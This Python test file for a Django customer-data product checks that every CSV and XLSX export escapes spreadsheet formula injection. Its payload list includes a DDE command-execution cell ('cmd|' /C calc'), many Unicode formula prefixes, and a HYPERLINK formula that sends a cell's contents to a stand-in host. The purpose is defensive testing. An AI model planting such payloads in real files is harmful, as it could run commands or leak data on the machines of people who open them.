"""F-31: no file that the product gives out holds a cell that a spreadsheet would run, whoever wrote what is in it."""

import csv
import io
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.utils import timezone
from tests.analyze.conftest import sync as sync  # noqa: PLC0414 (a fixture of a neighbour)
from tests.api.interview_scene import NEEDS, guide_of, hold, make_guide
from tests.api.staff import appoint
from tests.api.survey_scene import answer, link_for, make_survey, marketer, questionnaire
from tests.conftest import Caller
from tests.world import World

from kehu.api.routes import api
from kehu.collect.events import Happening, write_events
from kehu.flows.imports.run_import import run_import
from kehu.flows.imports.start_import import start_import
from kehu.flows.imports.upload_file import upload_file
from kehu.govern import audit
from kehu.govern.models.access import Unit
from kehu.govern.models.fields import Field
from kehu.platform.scope import SYSTEM, acting

DDE = "cmd|' /C calc'!A0"
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "　＝",
    "＝",
    "＋",
    "－",
    "＠",
    "\u200b=",
    "\ufeff=",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
)
CELLS = [f"{start}{DDE}" for start in STARTS] + [
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "=1+1",
    '"=1+1"',
    "沈静仪\n=1+1",
]
GIVEN_OUT = {
    "get_import_errors", "get_import_template", "export_audit_events", "export_survey_answers",
    "export_survey_invitations", "export_interviews", "export_suppressions", "export_dashboard_card", "export_segment",
    "export_funnel", "export_retention",
}  # fmt: skip


def would_run(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, after it has thrown away what nobody sees."""
    seen = "".join(c for c in cell if unicodedata.category(c) not in {"Cf", "Cc", "Zs"})
    return bool(seen) and unicodedata.normalize("NFKC", seen)[0] in "=+-@"


def cells_of(content: bytes) -> list[str]:
    """Return every cell of a CSV."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def read(answer: Any) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else bytes(answer.content)


def formulas(content: bytes) -> list[str]:
    return [cell for cell in cells_of(content) if would_run(cell)]


def test_every_route_that_gives_out_a_table_is_tested_here() -> None:
    paths = api.get_openapi_schema()["paths"].values()
    operations = [operation for path in paths for operation in path.values()]
    found = {
        o["operationId"]
        for o in operations
        if "text/csv" in str(o["responses"]) or "zip" in str(o["responses"])
    }

    assert found == GIVEN_OUT


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_refused_rows_come_back_as_text(
    world: World, call: Callable[..., Caller], tmp_path: Path, cell: str
) -> None:
    path = tmp_path / "客户.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(
            [["客户号", "姓名", "手机", cell], ["1", "沈静仪", cell, cell], [cell, cell, "x", cell]]
        )
    with acting(SYSTEM):
        job = start_import(
            upload=upload_file(path), source=world.core, mapping={"columns": {"姓名": "name", "手机": "mobile"}, "key": "客户号"},
            actor_id=None, now=timezone.now(),
        )  # fmt: skip
    run_import(job.pk)

    content = read(call(world.steward).get(f"/imports/{job.pk}/errors"))

    assert len(content.splitlines()) >= 2
    assert formulas(content) == []


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_the_trail_goes_out_as_text(world: World, call: Callable[..., Caller], cell: str) -> None:
    auditor = appoint(world, "audit_admin", name="the-auditor")
    type(auditor).objects.filter(pk=auditor.pk).update(name=cell.replace("\0", ""))
    audit.record(
        action=cell.replace("\0", "")[:64], actor_id=auditor.pk, now=timezone.now(), object_kind="import", reason=cell,
        fields=[cell.replace("\0", "")], details={"kind": cell.replace("\0", "")},
    )  # fmt: skip

    content = read(call(auditor).get("/audit/export"))

    assert DDE[:3] in content.decode() or "1+1" in content.decode() or "HYPERLINK" in content.decode()
    assert formulas(content) == []


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_a_template_names_its_columns_as_text(world: World, call: Callable[..., Caller], cell: str) -> None:
    label = cell.replace("\0", "")[:60]
    Field.objects.filter(key="email").update(label_zh=label, updated_at=timezone.now())
    steward = call(world.steward)

    content = read(steward.get("/import-template"))
    book = read(steward.get("/import-template", form="xlsx"))

    assert formulas(content) == []
    sheets = openpyxl.load_workbook(io.BytesIO(book)).worksheets
    assert {c.data_type for sheet in sheets for row in sheet.iter_rows() for c in row} <= {"s", "n"}


@pytest.fixture
def written(world: World, call: Callable[..., Caller]) -> tuple[Caller, dict[str, Any]]:
    """A survey, its marketer, and an answer for each cell; the titles of its questions are such cells, too."""
    writer = marketer(world, call)
    why = {"type": "comment", "name": "why", "title": DDE.join(["=", ""])}
    survey = make_survey(writer, definition=questionnaire(why))
    for number, cell in enumerate(CELLS):
        made = world.say(world.core, str(number), unit=world.xihu, owner=world.alice, name="沈静仪")
        link = link_for(writer, survey, made.profiles.created[0])
        assert answer(link, why=cell.replace("\0", "")).status_code == 204
    return writer, survey


def test_answers_and_links_go_out_as_text(written: tuple[Caller, dict[str, Any]]) -> None:
    writer, survey = written

    answers = read(writer.get(f"/surveys/{survey['id']}/export", format="csv", purpose="care"))
    links = read(writer.get(f"/surveys/{survey['id']}/invitations.csv"))

    assert answers.decode().count("cmd|") >= len(STARTS)
    assert (formulas(answers), formulas(links)) == ([], [])


def test_what_was_said_in_interviews_goes_out_as_text(world: World, call: Callable[..., Caller]) -> None:
    writer = marketer(world, call)
    guide = make_guide(writer, definition=guide_of({**NEEDS, "title": DDE.join(["=", ""])}))
    for number, cell in enumerate(CELLS):
        made = world.say(world.core, str(number), unit=world.xihu, owner=world.alice, name="沈静仪")
        said = cell.replace("\0", "")
        hold(call(world.alice), guide, made.profiles.created[0], answers={"needs": said}, notes=said)

    content = read(writer.get(f"/interview-guides/{guide['id']}/export", purpose="care"))

    assert content.decode().count("cmd|") >= len(STARTS)
    assert formulas(content) == []


def test_the_reasons_of_a_suppression_go_out_as_text(world: World, call: Callable[..., Caller]) -> None:
    steward = call(world.steward)
    for number, cell in enumerate(CELLS):
        body = {"address": f"a{number}@example.com", "reason": cell.replace("\0", "")}
        assert steward.post("/suppressions", body).status_code == 204

    content = read(steward.post("/suppressions/export", {}))

    assert len(list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))) == len(CELLS) + 1
    assert formulas(content) == []


def test_figures_and_members_go_out_as_text(
    world: World, call: Callable[..., Caller], sync: Callable[[], Any]
) -> None:
    Unit.objects.filter(pk=world.xihu.pk).update(name=f"={DDE}")
    world.say(world.core, "1", unit=world.xihu, owner=world.alice, name=f"@{DDE}")
    with acting(SYSTEM), connection.cursor() as cursor:
        cursor.execute("SELECT record_id FROM resolve_link")
        at, record = timezone.now(), cursor.fetchone()[0]
        write_events([Happening("1", record, "behavior", f"={DDE}", at, at)], source_id=world.core.pk)
    steward, marketing = call(world.steward), marketer(world, call)
    sync()
    everybody = {"name": "全部", "purpose": "care", "definition": {"all": []}}
    segment = marketing.post("/segments", everybody).json()["id"]

    funnel = {
        "purpose": "care",
        "definition": {"steps": [{"event": f"={DDE}"}, {"event": "x"}], "in_hours": 1, "by": "unit"},
    }

    begin = {"event": f"={DDE}"}
    retention = {"purpose": "care", "definition": {"begin": begin, "unit": "week"}}

    told = read(marketing.post("/funnels/csv", funnel))
    cohorts = read(marketing.post("/retention/csv", retention))
    card = read(steward.post("/dashboards/cards/customers_by_unit/csv", {}))
    file = read(marketing.post(f"/segments/{segment}/export", {"reason": "核对"}))
    members = zipfile.ZipFile(io.BytesIO(file)).read("members.csv")

    assert (DDE in card.decode(), DDE in members.decode()) == (True, True)
    assert [formulas(one) for one in (card, members, told, cohorts)] == [[]] * 4
    assert told.decode().count(DDE) == 2 + 2
